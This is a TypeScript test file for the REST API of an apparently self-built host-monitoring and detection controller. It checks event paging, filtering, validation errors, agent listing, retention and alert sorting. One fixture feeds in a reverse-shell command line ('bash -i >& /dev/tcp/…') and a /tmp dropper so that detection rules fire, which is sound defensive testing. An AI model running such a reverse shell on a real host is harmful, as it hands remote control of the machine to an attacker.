import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { RetentionJob } from "../../src/retention/retention";
import { createPgDatabase, startTestController, type TestController } from "../support/controller";
import { RawAgent } from "../support/raw-agent";
import { waitFor } from "../support/wait";

describe("REST: /api/v1/events and /api/v1/agents", () => {
  let ctl: TestController;
  // Within the event time tolerance (24 h): older times would be stored at the receive time, marked.
  const base = Date.now() - 3_600_000;

  beforeAll(async () => {
    ctl = await startTestController();
    const a = new RawAgent(ctl.grpcPort);
    a.hello("api-agent", { hostname: "web-01", tags: ["critical"] });
    // 25 events one minute apart; every 5th is an auth event mentioning a distinctive user.
    a.events(1, 25, (seq) => ({
      eventTimeMs: base + seq * 60_000,
      body:
        seq % 5 === 0
          ? {
              $case: "auth",
              auth: {
                action: 2,
                user: `Mallory${seq}`,
                targetUser: "",
                sourceIp: "203.0.113.9",
                sourcePort: 1,
                method: "password",
                pid: 1,
                service: "sshd",
                command: "",
                tty: "",
                hostname: "web-01",
                raw: "x",
              },
            }
          : { $case: "agent", agent: { kind: "test", message: `m${seq}`, attributes: {} } },
    }));
    await waitFor("ack", () => a.lastAck() === 25);
    a.close();
  });
  afterAll(async () => ctl?.dispose());

  it("pages newest first with a cursor and no overlap", async () => {
    const seen: number[] = [];
    let cursor: string | null = null;
    do {
      const r = await ctl.get(`/api/v1/events?agent=api-agent&limit=10${cursor ? `&cursor=${cursor}` : ""}`);
      expect(r.status).toBe(200);
      seen.push(...r.body.items.map((e: { seq: number }) => e.seq));
      cursor = r.body.nextCursor;
    } while (cursor);
    expect(seen).toEqual(Array.from({ length: 25 }, (_, i) => 25 - i));
  });

  it("filters by type, time window and text", async () => {
    const byType = await ctl.get(`/api/v1/events?type=auth`);
    expect(byType.body.items.map((e: { seq: number }) => e.seq)).toEqual([25, 20, 15, 10, 5]);
    const window = await ctl.get(`/api/v1/events?since=${new Date(base + 10 * 60_000).toISOString()}&until=${base + 13 * 60_000}`);
    expect(window.body.items.map((e: { seq: number }) => e.seq)).toEqual([12, 11, 10]);
    const text = await ctl.get(`/api/v1/events?q=mallory15`);
    expect(text.body.items.map((e: { seq: number }) => e.seq)).toEqual([15]);
    expect(text.body.items[0].auth.user).toBe("Mallory15");
  });

  it("fetches the events an alert references by their sequence numbers, in one request", async () => {
    const r = await ctl.get(`/api/v1/events?agent=api-agent&seq=3,25,7,7`);
    expect(r.status).toBe(200);
    expect(r.body.items.map((e: { seq: number }) => e.seq)).toEqual([25, 7, 3]);
    // Combined with the other filters, not instead of them.
    const auth = await ctl.get(`/api/v1/events?agent=api-agent&seq=3,25,7&type=auth`);
    expect(auth.body.items.map((e: { seq: number }) => e.seq)).toEqual([25]);
    const none = await ctl.get(`/api/v1/events?agent=api-agent&seq=9999`);
    expect(none.status).toBe(200);
    expect(none.body.items).toEqual([]);
    const max = Array.from({ length: 100 }, (_, i) => i + 1).join(",");
    expect((await ctl.get(`/api/v1/events?agent=api-agent&seq=${max}`)).body.items).toHaveLength(25);
  });

  it.each([
    ["seq=3", "seq"],
    ["agent=api-agent&seq=3,x", "seq"],
    ["agent=api-agent&seq=-1", "seq"],
    ["agent=api-agent&seq=1.5", "seq"],
    ["agent=api-agent&seq=3,,4", "seq"],
    ["agent=api-agent&seq=99999999999999999", "seq"],
    ["agent=api-agent&seq=" + Array.from({ length: 101 }, (_, i) => i).join(","), "seq"],
    ["limit=0", "limit"],
    ["limit=abc", "limit"],
    ["type=bogus", "type"],
    ["since=yesterday-ish", "since"],
    ["cursor=notacursor", "cursor"],
    ["colour=blue", "colour"],
    ["since=2026-02-01T00:00:00Z&until=2026-01-01T00:00:00Z", "since"],
    ["agent=-leading-dash", "agent"],
    ["agent=has%20space", "agent"],
    ["agent=" + "a".repeat(129), "agent"],
  ])("400 naming the parameter for %s", async (qs, name) => {
    const r = await ctl.get(`/api/v1/events?${qs}`);
    expect(r.status).toBe(400);
    expect(r.body.message).toContain(`"${name}"`);
  });

  it("404 for an agent that is not enrolled, instead of an empty page", async () => {
    const r = await ctl.get(`/api/v1/events?agent=no-such-agent`);
    expect(r.status).toBe(404);
    expect(r.body.message).toContain("no-such-agent");
    const known = await ctl.get(`/api/v1/events?agent=api-agent&limit=1`);
    expect(known.status).toBe(200);
    expect(known.body.items).toHaveLength(1);
  });

  it("lists agents with facts and online state; 404 for an unknown id", async () => {
    const list = await ctl.get("/api/v1/agents");
    const a = list.body.items.find((x: { id: string }) => x.id === "api-agent");
    expect(a).toMatchObject({ hostname: "web-01", tags: ["critical"], ackedSeq: 25, missingEvents: 0 });
    const one = await ctl.get("/api/v1/agents/api-agent");
    expect(one.status).toBe(200);
    const missing = await ctl.get("/api/v1/agents/nope");
    expect(missing.status).toBe(404);
    expect(missing.body.message).toContain("nope");
  });

  it("healthz reports the database and the OpenAPI document lists the routes", async () => {
    const h = await ctl.get("/api/v1/healthz");
    expect(h.status).toBe(200);
    expect(h.body.status).toBe("ok");
    const doc = await ctl.get("/api/docs/openapi.json");
    expect(Object.keys(doc.body.paths)).toEqual(expect.arrayContaining(["/api/v1/events", "/api/v1/agents", "/api/v1/agents/{id}", "/api/v1/healthz"]));
  });

  it("retention deletes old events in small batches and keeps recent ones", async () => {
    // Cut-off between event 20 and 21 (by event time).
    const job = new RetentionJob(ctl.store, 0, { intervalMs: 60_000, batchSize: 4, maxBatchesPerRun: 100 }, () => base + 20 * 60_000 + 30_000);
    const deleted = await job.runOnce();
    expect(deleted).toBe(20);
    const rest = await ctl.get(`/api/v1/events?agent=api-agent`);
    expect(rest.body.items.map((e: { seq: number }) => e.seq)).toEqual([25, 24, 23, 22, 21]);
  });
});

describe("REST: /api/v1/events?seq= on PostgreSQL", () => {
  let ctl: TestController;
  let drop: (() => Promise<void>) | undefined;
  beforeAll(async () => {
    const db = await createPgDatabase();
    drop = db.drop;
    ctl = await startTestController({ databaseUrl: db.url });
    const a = new RawAgent(ctl.grpcPort);
    a.hello("pg-seq", { hostname: "pg-seq-host" });
    const t = Date.now() - 600_000;
    a.events(1, 6, (seq) => ({ eventTimeMs: t + seq * 1000, body: { $case: "agent", agent: { kind: "test", message: `m${seq}`, attributes: {} } } }));
    await waitFor("ack", () => a.lastAck() === 6);
    a.close();
  });
  afterAll(async () => {
    await ctl?.dispose();
    await drop?.();
  });

  it("selects exactly the listed sequence numbers, newest first", async () => {
    const r = await ctl.get(`/api/v1/events?agent=pg-seq&seq=2,5`);
    expect(r.status).toBe(200);
    expect(r.body.items.map((e: { seq: number }) => e.seq)).toEqual([5, 2]);
  });
});

describe("REST: /api/v1/alerts?sort=score", () => {
  let ctl: TestController;
  beforeAll(async () => {
    ctl = await startTestController();
    const a = new RawAgent(ctl.grpcPort);
    a.hello("score-agent", { hostname: "score-host", tags: ["critical"] });
    // A reverse shell (critical rule) an hour before a curl from /tmp (lower level): recency and score disagree.
    const t = Date.now() - 3_600_000;
    a.events(1, 2, (seq) => ({
      eventTimeMs: seq === 1 ? t : t + 3_000_000,
      body: {
        $case: "process",
        process: {
          action: 1,
          pid: 1000 + seq,
          ppid: 1,
          exe: seq === 1 ? "/usr/bin/bash" : "/tmp/dropper",
          commandLine: seq === 1 ? "bash -i >& /dev/tcp/192.0.2.9/4444 0>&1" : "/tmp/dropper --run",
          user: "www-data",
          uid: 33,
          cwd: "/",
          startTimeMs: t,
          sha256: "",
          parentExe: "",
          parentCommandLine: "",
          name: "x",
          exeDeleted: false,
          exitCode: 0,
        },
      },
    }));
    await waitFor("ack", () => a.lastAck() === 2);
    await ctl.detection.pipeline.idle();
    a.close();
  });
  afterAll(async () => ctl?.dispose());

  it("orders by score with its own cursor; the default stays most recent first", async () => {
    const byScore = await ctl.get("/api/v1/alerts?agent=score-agent&sort=score&limit=1");
    expect(byScore.status).toBe(200);
    const first = byScore.body.items[0];
    const next = await ctl.get(`/api/v1/alerts?agent=score-agent&sort=score&limit=1&cursor=${byScore.body.nextCursor}`);
    const second = next.body.items[0];
    expect(first.score).toBeGreaterThanOrEqual(second.score);
    expect(first.id).not.toBe(second.id);
    const recent = await ctl.get("/api/v1/alerts?agent=score-agent&limit=2");
    expect(recent.body.items.map((x: { id: string }) => x.id)).toHaveLength(2);
    expect((await ctl.get("/api/v1/alerts?sort=loudest")).status).toBe(400);
    expect((await ctl.get(`/api/v1/alerts?sort=score&cursor=${recent.body.nextCursor ?? "bm9wZQ"}`)).status).toBe(400);
  });
});
